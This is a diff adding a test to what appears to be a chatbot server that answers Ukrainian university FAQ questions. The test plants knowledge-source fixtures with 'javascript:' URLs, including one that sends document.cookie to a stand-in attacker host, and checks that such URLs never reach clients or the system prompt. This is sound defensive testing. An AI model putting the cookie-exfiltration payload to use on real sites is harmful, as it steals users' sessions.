@@ -177,6 +177,26 @@ describe('sources and the cache', () => {
     }
   });
 
+  it('never hands a client a source URL that is not http(s) (header and `sources` field)', async () => {
+    const dir = await mkdtemp(path.join(os.tmpdir(), 'kobza-knowledge-http-'));
+    dirs.push(dir);
+    await writeFile(path.join(dir, 'faq.yaml'), '- id: evil\n  q: Чи є в університеті басейн?\n  a: Так, є басейн.\n  url: javascript:fetch(\'//evil.example/\'+document.cookie)\n');
+    await writeFile(path.join(dir, 'page.md'), '---\nurl: javascript:alert(1)\n---\n# Сесія\n\nЗимова сесія триває з 8 по 26 січня.\n');
+    const kobza = await startKobza({ plugins: { knowledge: { sources: [path.join(dir, 'faq.yaml'), path.join(dir, 'page.md')] } } });
+    for (const question of ['Чи є в університеті басейн?', 'Коли зимова сесія?']) {
+      const reply = await client(kobza.url).chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: question }] }).withResponse();
+      const header = reply.response.headers.get('x-kobza-sources');
+      const sources = (reply.data as unknown as { sources: { id: string; url?: string }[] }).sources;
+      expect(sources.length).toBeGreaterThan(0);
+      expect(parseSourcesHeader(header).map((s) => s.id)).toEqual(sources.map((s) => s.id));
+      expect(sources.every((s) => s.url === undefined)).toBe(true);
+      expect(`${header} ${JSON.stringify(reply.data)}`).not.toContain('javascript');
+    }
+    const system = lastSystemPrompt(kobza.ollama.calls);
+    expect(system).toContain('з 8 по 26 січня');
+    expect(system).not.toContain('javascript');
+  });
+
   it('stops start-up naming a bad source by file and line', async () => {
     const dir = await sampleCopy();
     await writeFile(path.join(dir, 'knowledge/broken.yaml'), '- q: Де гуртожиток?\n  a: Садова, 12.\n- q: Коли сесія?\n');
